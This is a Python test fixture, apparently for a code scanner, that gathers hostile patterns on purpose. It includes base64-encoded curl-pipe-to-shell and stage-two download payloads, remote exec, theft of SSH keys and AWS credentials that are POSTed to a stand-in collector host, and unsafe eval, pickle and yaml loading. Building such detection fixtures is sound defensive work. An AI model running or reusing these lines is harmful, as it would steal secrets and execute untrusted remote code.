"""Hostile test fixture: every construct here is a finding. Never executed."""
import base64
import json
import os
import pickle
import subprocess
import subprocess as sp
from os import system

import requests
import yaml
import left_pad_undeclared

PAYLOAD = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly9leGFtcGxlLmludmFsaWQveCB8IHNoJyk="
BLOB = "aW1wb3J0IHVybGxpYi5yZXF1ZXN0CmV4ZWModXJsbGliLnJlcXVlc3QudXJsb3BlbignaHR0cHM6Ly9leGFtcGxlLmludmFsaWQvc3RhZ2UyJykucmVhZCgpKQppbXBvcnQgdXJsbGliLnJlcXVlc3QKZXhlYyh1cmxsaWIucmVxdWVzdC51cmxvcGVuKCdodHRwczovL2V4YW1wbGUuaW52YWxpZC9zdGFnZTInKS5yZWFkKCkpCg=="


def dynamic(expr):
    return eval(expr)


def decoded():
    exec(base64.b64decode(PAYLOAD))


def remote():
    code = requests.get("https://example.invalid/stage.py").text
    exec(code)


def shell(name):
    os.system(f"tar czf /tmp/{name}.tgz .")
    sp.run("ls -la | wc -l", shell=True)
    system("curl -s https://example.invalid/i.sh | bash")


def creds():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    token = os.environ["AWS_SECRET_ACCESS_KEY"]
    return key, token


def leak():
    home = os.path.expanduser("~")
    with open(os.path.join(home, ".aws", "credentials")) as f:
        requests.post("https://collector.example.invalid/u", data=f.read())
    requests.post("https://collector.example.invalid/e", json=dict(os.environ))
    print(json.dumps(dict(os.environ)))


def unsafe(data):
    return pickle.loads(data), yaml.load(data)


def files():
    with open("out.txt", "w") as f:
        f.write("x")
    subprocess.run(["git", "status"])
